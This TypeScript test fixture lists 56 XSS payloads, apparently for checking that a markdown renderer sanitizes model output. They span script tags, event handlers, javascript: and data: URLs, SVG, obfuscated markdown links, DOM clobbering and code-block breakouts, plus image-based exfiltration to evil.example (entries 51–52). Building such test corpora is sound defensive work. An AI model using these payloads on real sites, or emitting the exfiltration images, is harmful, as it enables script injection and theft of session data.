/** One XSS attempt, as a model would output it; running it calls `__xssFired(id)`. */
export interface XssPayload {
  id: number;
  category: string;
  text: string;
}

/**
 * The XSS corpus: script tags, event handlers, `javascript:` and `data:` URLs, SVG and MathML,
 * markdown link, image, reference, autolink, code and table tricks, and HTML/JS in fenced code
 * blocks for the syntax highlighter. Every payload that ran would call `__xssFired(<id>)`.
 */
export const xssPayloads: readonly XssPayload[] = [
  { id: 1, category: 'script', text: '<script>__xssFired(1)</script>' },
  { id: 2, category: 'event handler', text: '<img src=x onerror="__xssFired(2)">' },
  { id: 3, category: 'svg', text: '<svg onload="__xssFired(3)"></svg>' },
  { id: 4, category: 'svg', text: '<svg><script>__xssFired(4)</script></svg>' },
  { id: 5, category: 'javascript url', text: '<iframe src="javascript:__xssFired(5)"></iframe>' },
  { id: 6, category: 'script', text: '<iframe srcdoc="<script>parent.__xssFired(6)</script>"></iframe>' },
  { id: 7, category: 'javascript url', text: '<a href="javascript:__xssFired(7)">click</a>' },
  { id: 8, category: 'event handler', text: '<body onload=__xssFired(8)>' },
  { id: 9, category: 'event handler', text: '<details open ontoggle="__xssFired(9)">x</details>' },
  { id: 10, category: 'javascript url', text: '<object data="javascript:__xssFired(10)"></object>' },
  {
    id: 11,
    category: 'data url',
    text: '<embed src="data:text/html,<script>parent.__xssFired(11)</script>">',
  },
  {
    id: 12,
    category: 'javascript url',
    text: '<form action="javascript:__xssFired(12)"><button>go</button></form>',
  },
  {
    id: 13,
    category: 'event handler',
    text: '<math><mtext><img src=x onerror=__xssFired(13)></mtext></math>',
  },
  {
    id: 14,
    category: 'javascript url',
    text: '<div style="background:url(javascript:__xssFired(14))">x</div>',
  },
  { id: 15, category: 'event handler', text: '<input autofocus onfocus="__xssFired(15)">' },
  { id: 16, category: 'markdown link', text: '[click me](javascript:__xssFired(16))' },
  { id: 17, category: 'markdown link', text: '[click me](JaVaScRiPt:__xssFired(17))' },
  { id: 18, category: 'markdown link', text: '[click me](  javascript:__xssFired(18))' },
  { id: 19, category: 'markdown link', text: '[click me](&#106;avascript:__xssFired(19))' },
  { id: 20, category: 'markdown link', text: '[click me](java\tscript:__xssFired(20))' },
  { id: 21, category: 'markdown link', text: '[click me](javascript&colon;__xssFired(21))' },
  {
    id: 22,
    category: 'data url',
    text: '[click me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3NGaXJlZCgyMik8L3NjcmlwdD4=)',
  },
  { id: 23, category: 'markdown link', text: '[click me](vbscript:msgbox(23))' },
  { id: 24, category: 'markdown image', text: '![picture](javascript:__xssFired(24))' },
  {
    id: 25,
    category: 'markdown image',
    text: '![picture](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50Ll9feHNzRmlyZWQoMjUpIi8+)',
  },
  { id: 26, category: 'markdown image', text: '![picture](x" onerror="__xssFired(26))' },
  { id: 27, category: 'markdown link', text: '[reference link][evil]\n\n[evil]: javascript:__xssFired(27)' },
  { id: 28, category: 'markdown link', text: '<javascript:__xssFired(28)>' },
  {
    id: 29,
    category: 'markdown link',
    text: '[x](https://example.com "title\\" onmouseover=\\"__xssFired(29)")',
  },
  { id: 30, category: 'markdown link', text: '[x](https://example.com"onclick="__xssFired(30))' },
  { id: 31, category: 'markdown code', text: '`<img src=x onerror=__xssFired(31)>`' },
  { id: 32, category: 'markdown code', text: '```html\n<script>__xssFired(32)</script>\n```' },
  { id: 33, category: 'javascript url', text: '<a href="&#x6A;avascript:__xssFired(33)">x</a>' },
  {
    id: 34,
    category: 'markdown link',
    text: '[![nested](https://example.com/a.png)](javascript:__xssFired(34))',
  },
  { id: 35, category: 'script', text: "<style>@import 'javascript:__xssFired(35)';</style>" },
  {
    id: 36,
    category: 'javascript url',
    text: '<base href="javascript:__xssFired(36)//">[relative](relative/path)',
  },
  {
    id: 37,
    category: 'javascript url',
    text: '<meta http-equiv="refresh" content="0;url=javascript:__xssFired(37)">',
  },
  {
    id: 38,
    category: 'event handler',
    text: '<noscript><p title="</noscript><img src=x onerror=__xssFired(38)>">',
  },
  {
    id: 39,
    category: 'svg',
    text: '<svg><a xlink:href="javascript:__xssFired(39)"><text x="20" y="20">click</text></a></svg>',
  },
  { id: 40, category: 'markdown link', text: '[x](\u0001javascript:__xssFired(40))' },
  { id: 41, category: 'data url', text: '[x](data:text/html,<script>__xssFired(41)</script>)' },
  {
    id: 42,
    category: 'markdown image',
    text: '![a](https://example.com/a.png)![b](javascript:__xssFired(42))',
  },
  {
    id: 43,
    category: 'event handler',
    text: '**bold <img src=x onerror=__xssFired(43)> text** and _<b onmouseover=__xssFired(43)>hover</b>_',
  },
  { id: 44, category: 'markdown link', text: '[x](javascript:/* https://example.com */__xssFired(44))' },
  { id: 45, category: 'markdown link', text: '[x](javascript://%0A__xssFired(45))' },
  {
    id: 46,
    category: 'svg',
    text: '<svg><animate onbegin="__xssFired(46)" attributeName="x" dur="1s"/></svg>',
  },
  {
    id: 47,
    category: 'markdown link',
    text: '| a | b |\n|---|---|\n| [x](javascript:__xssFired(47)) | <img src=x onerror=__xssFired(47)> |',
  },
  {
    id: 48,
    category: 'highlighted code',
    text: '```html\n<img src=x onerror="__xssFired(48)">\n<svg onload=__xssFired(48)></svg>\n<a href="javascript:__xssFired(48)">x</a>\n```',
  },
  {
    id: 49,
    category: 'highlighted code',
    text: "```js\ndocument.body.innerHTML = '<img src=x onerror=__xssFired(49)>';\n// </code></pre><script>__xssFired(49)</script>\nconst s = `<svg onload=__xssFired(49)>`;\n```",
  },
  {
    id: 50,
    category: 'highlighted code',
    text: '```\n<script>__xssFired(50)</script><img src=x onerror=__xssFired(50)>\n```\n\n```hljs-keyword" onmouseover="__xssFired(50)\n<b onclick=__xssFired(50)>x</b>\n```',
  },
  {
    id: 51,
    category: 'exfiltration',
    text: 'Here is your chart:\n\n![chart](https://evil.example/collect?session=SECRET)',
  },
  { id: 52, category: 'exfiltration', text: '![a](//evil.example/p.png) ![b](HTTPS://EVIL.EXAMPLE/q.png)' },
  { id: 53, category: 'dom clobbering', text: '# root\n\n## attune\n\n### __proto__' },
  {
    id: 54,
    category: 'dom clobbering',
    text: 'A note[^root] and[^__proto__].\n\n[^root]: [x](javascript:__xssFired(54)) <img src=x onerror=__xssFired(54)>\n[^__proto__]: <svg onload=__xssFired(54)>',
  },
  {
    id: 55,
    category: 'markdown extension',
    text: '> [!WARNING]\n> <script>__xssFired(55)</script> ==<b onclick=__xssFired(55)>x</b>==\n\n- [x] <input autofocus onfocus=__xssFired(55)>\n- [ ] ~~<a href="javascript:__xssFired(55)">y</a>~~',
  },
  {
    id: 56,
    category: 'markdown link',
    text: 'https://example.com/"onmouseover="__xssFired(56) www.javascript:__xssFired(56) <&#106;avascript:__xssFired(56)> [x](<javascript:__xssFired(56)>) [y][z]\n\n[z]: &#x6A;avascript:__xssFired(56)',
  },
];
